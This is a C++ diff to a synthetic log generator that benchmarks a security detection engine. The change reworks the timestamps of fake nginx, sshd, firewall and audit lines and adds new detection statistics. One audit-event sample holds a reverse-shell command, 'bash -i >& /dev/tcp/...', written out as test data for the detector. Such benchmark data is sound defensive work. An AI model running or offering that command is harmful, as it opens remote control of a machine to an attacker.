@@ -35,22 +35,33 @@ class Generator {
  public:
   explicit Generator(uint32_t seed) : rng_(seed) {}
 
+  // Line `n` of the mix happens kLinesPerSecond lines a second after 2026-11-23 00:00 in Vietnam;
+  // its envelope's read time (read_time()) is the same instant.
+  static constexpr unsigned kLinesPerSecond = 4;
+  static std::string read_time(size_t n) {
+    const size_t s = n / kLinesPerSecond;
+    char buf[96];
+    std::snprintf(buf, sizeof buf, "2026-%s:%02zu:%02zu.%03zu+07:00", day_hour(s).c_str(),
+                  s / 60 % 60, s % 60, n % kLinesPerSecond * (1000 / kLinesPerSecond));
+    return buf;
+  }
+
   std::pair<std::string, std::string> next() {  // (src, line)
+    now_ = line_++ / kLinesPerSecond;
+    if (pending_.empty() && u(100) < 2) {  // a whole audit event is 7 lines: ~14 % of the lines
+      for (auto& line : audit_event()) pending_.push_back(std::move(line));
+    }
     if (!pending_.empty()) {
       auto line = std::move(pending_.front());
       pending_.pop_front();
       return {kAuditLog, std::move(line)};
     }
-    const unsigned r = u(100);
+    const unsigned r = u(98);
     if (r < 32) return {"file:/var/log/nginx/access.log", access()};
     if (r < 53) return {"file:/var/log/auth.log", sshd()};
     if (r < 59) return {"file:/var/log/auth.log", sudo()};
-    if (r < 61) {  // a whole audit event is 7 lines: about 14 % of the lines
-      for (auto& line : audit_event()) pending_.push_back(std::move(line));
-      return next();
-    }
-    if (r < 79) return {"file:/var/log/ufw.log", firewall()};
-    if (r < 86) return {"file:/var/log/app/app.json", json()};
+    if (r < 77) return {"file:/var/log/ufw.log", firewall()};
+    if (r < 84) return {"file:/var/log/app/app.json", json()};
     return {"file:/var/log/syslog", other()};
   }
 
@@ -80,8 +91,9 @@ class Generator {
         {"/usr/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.45/4444 0>&1"}},
     };
     const Exec& x = kExecs[u(100) < 95 ? u(10) : 10 + u(4)];
-    const std::string id = "msg=audit(1795435200." + std::to_string(100 + u(900)) + ":" +
-                           std::to_string(++serial_) + "): ";
+    // 1795366800 is 2026-11-23 00:00 in Vietnam.
+    const std::string id = "msg=audit(" + std::to_string(1795366800 + now_) + "." +
+                           std::to_string(100 + u(900)) + ":" + std::to_string(++serial_) + "): ";
     std::string execve = "type=EXECVE " + id + "argc=" + std::to_string(x.argv.size());
     std::string title;
     for (size_t i = 0; i < x.argv.size(); ++i) {
@@ -127,7 +139,8 @@ class Generator {
   }
 
   std::mt19937 rng_;
-  unsigned long seq_ = 0;
+  size_t line_ = 0;  // lines made so far
+  size_t now_ = 0;   // seconds after 2026-11-23 00:00 +07:00 of the line being made
 
   unsigned u(unsigned n) { return static_cast<unsigned>(rng_() % n); }
   template <size_t N>
@@ -138,10 +151,19 @@ class Generator {
     return std::to_string(u(223) + 1) + "." + std::to_string(u(256)) + "." +
            std::to_string(u(256)) + "." + std::to_string(u(254) + 1);
   }
-  std::string stamp() {
-    const unsigned s = static_cast<unsigned>(seq_++ % 86400);
-    char buf[32];
-    std::snprintf(buf, sizeof buf, "Nov 23 %02u:%02u:%02u", s / 3600, s / 60 % 60, s % 60);
+  // "MM-DDTHH" of second `s` after 2026-11-23 00:00 (November, then December).
+  static std::string day_hour(size_t s) {
+    const size_t day = 23 + s / 86400;
+    char buf[64];
+    std::snprintf(buf, sizeof buf, "%s-%02zuT%02zu", day > 30 ? "12" : "11",
+                  day > 30 ? day - 30 : day, s / 3600 % 24);
+    return buf;
+  }
+  std::string stamp() {  // RFC 3164
+    const size_t day = 23 + now_ / 86400;
+    char buf[96];
+    std::snprintf(buf, sizeof buf, "%s %2zu %02zu:%02zu:%02zu", day > 30 ? "Dec" : "Nov",
+                  day > 30 ? day - 30 : day, now_ / 3600 % 24, now_ / 60 % 60, now_ % 60);
     return buf;
   }
   std::string header(const char* program) {
@@ -175,9 +197,14 @@ class Generator {
     const char* path = attack ? pick(kAttacks) : pick(kPaths);
     const char* agent = attack ? pick(kAgents) : kAgents[u(3)];
     static const unsigned kStatus[] = {200, 200, 200, 304, 404, 500, 301};
-    return ip() + " - - [23/Nov/2026:12:" + std::to_string(10 + u(50)) + ":00 +0700] \"" +
-           (u(10) < 8 ? "GET " : "POST ") + path + " HTTP/1.1\" " + std::to_string(kStatus[u(7)]) +
-           " " + std::to_string(u(50000)) + " \"-\" \"" + agent + "\"";
+    const size_t day = 23 + now_ / 86400;
+    char when[96];
+    std::snprintf(when, sizeof when, "[%02zu/%s/2026:%02zu:%02zu:%02zu +0700]",
+                  day > 30 ? day - 30 : day, day > 30 ? "Dec" : "Nov", now_ / 3600 % 24,
+                  now_ / 60 % 60, now_ % 60);
+    return ip() + " - - " + when + " \"" + (u(10) < 8 ? "GET " : "POST ") + path + " HTTP/1.1\" " +
+           std::to_string(kStatus[u(7)]) + " " + std::to_string(u(50000)) + " \"-\" \"" + agent +
+           "\"";
   }
   std::string sshd() {
     static const char* const kUsers[] = {"root", "admin", "oracle", "ubuntu", "alice", "test"};
@@ -215,8 +242,9 @@ class Generator {
            " WINDOW=64240 RES=0x00 SYN URGP=0";
   }
   std::string json() {
-    return "{\"@timestamp\":\"2026-11-23T12:00:00Z\",\"level\":\"info\",\"message\":\"order " +
-           std::to_string(seq_) + " created\",\"user\":\"u" + std::to_string(u(100)) + "\"}";
+    return "{\"@timestamp\":\"" + read_time(line_ - 1) +
+           "\",\"level\":\"info\",\"message\":\"order " + std::to_string(line_) +
+           " created\",\"user\":\"u" + std::to_string(u(100)) + "\"}";
   }
   std::string other() {
     static const char* const kMsgs[] = {"CRON[99]: (root) CMD (run-parts /etc/cron.hourly)",
@@ -466,18 +494,14 @@ int main(int argc, char** argv) {
       envs.push_back(std::move(e));
     }
   }
-  // Read times one millisecond apart, as lines from many agents arrive interleaved: the decoder
-  // parses each one.
+  // Every line has its own read time (the decoder parses each), moving with the generated lines'
+  // own clock.
   for (size_t i = 0; i < envs.size(); ++i) {
     envs[i].agent = "bench-agent";
     envs[i].host = "web01";
     envs[i].org = "BENCH";
     envs[i].seq = i + 1;
-    const size_t ms = i % 3'600'000;
-    char ts[40];
-    std::snprintf(ts, sizeof ts, "2026-11-23T12:%02zu:%02zu.%03zu+07:00", ms / 60'000,
-                  ms / 1000 % 60, ms % 1000);
-    envs[i].ts = ts;
+    envs[i].ts = Generator::read_time(i);
   }
   const size_t n = envs.size();
   if (!o.dump_patterns.empty()) std::ofstream(o.dump_patterns, std::ios::binary) << eres;
@@ -501,6 +525,8 @@ int main(int argc, char** argv) {
     for (const auto& e : decoded) matches += (*engine)->match(e, es).size();
   });
   size_t detections = 0;
+  size_t groups = 0;  // threshold groups open at the end, and evicted by the cap on the way
+  uint64_t evicted = 0;
   const double detect_eps = best_rate(o.rounds, n, [&] {
     soc::Detector detector(**engine);  // fresh state each round
     soc::AuditAssembler assembler;     // as in the pipeline: audit records joined first
@@ -521,6 +547,8 @@ int main(int argc, char** argv) {
     }
     assembler.flush();
     detect_ready();
+    groups = detector.group_count();
+    evicted = detector.evicted_groups();
   });
   size_t raw_hits = 0;
   const double raw_lps = best_rate(o.detect_only ? 0 : o.rounds, n, [&] {
@@ -538,7 +566,8 @@ int main(int argc, char** argv) {
 
   std::printf("rules=%zu databases=%zu patterns=%zu lines=%zu\n", (*engine)->rules().size(),
               (*engine)->database_count(), (*engine)->pattern_count(), n);
-  std::printf("rule_matches=%zu detections=%zu\n", matches, detections);
+  std::printf("rule_matches=%zu detections=%zu threshold_groups=%zu evicted_groups=%llu\n", matches,
+              detections, groups, static_cast<unsigned long long>(evicted));
   std::printf("decode_eps=%.0f\n", decode_eps);
   std::printf("match_only_eps=%.0f\n", match_eps);
   std::printf("detect_eps_per_core=%.0f\n", detect_eps);
